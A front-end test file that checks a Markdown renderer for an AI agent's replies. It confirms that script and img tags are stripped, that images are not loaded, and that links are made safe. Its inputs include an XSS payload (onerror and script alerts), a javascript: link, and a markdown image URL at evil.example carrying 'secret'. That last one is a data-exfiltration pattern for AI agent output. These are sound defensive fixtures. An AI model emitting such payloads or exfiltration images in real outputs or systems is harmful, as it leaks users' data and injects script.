import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

const page = (text: string) => render(<Markdown text={text} />).container;

describe('Markdown of the agent', () => {
  afterEach(cleanup);

  it('never becomes raw HTML', () => {
    const shown = page('before <img src=x onerror=alert(1)><script>alert(1)</script> after');
    expect(shown.querySelector('script, img')).toBeNull();
    expect(shown.textContent).toContain('after');
  });

  it('loads no picture: it names it instead', () => {
    const shown = page('![salary 4200](https://evil.example/?q=secret)');
    expect(shown.querySelector('img')).toBeNull();
    expect(shown.innerHTML).not.toContain('evil.example');
    expect(shown.textContent).toContain('salary 4200');
  });

  it('opens links in a new tab that knows nothing of this one, and no script links at all', () => {
    const shown = page('[good](https://example.com) [bad](javascript:alert(1))');
    const [good, bad] = shown.querySelectorAll('a');
    expect(good?.getAttribute('target')).toBe('_blank');
    expect(good?.getAttribute('rel')).toContain('noopener');
    expect(bad?.getAttribute('href') ?? '').not.toContain('javascript');
  });

  it('shows tables and lists', () => {
    const shown = page('| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two');
    expect(shown.querySelectorAll('td')).toHaveLength(2);
    expect(shown.querySelectorAll('li')).toHaveLength(2);
  });
});
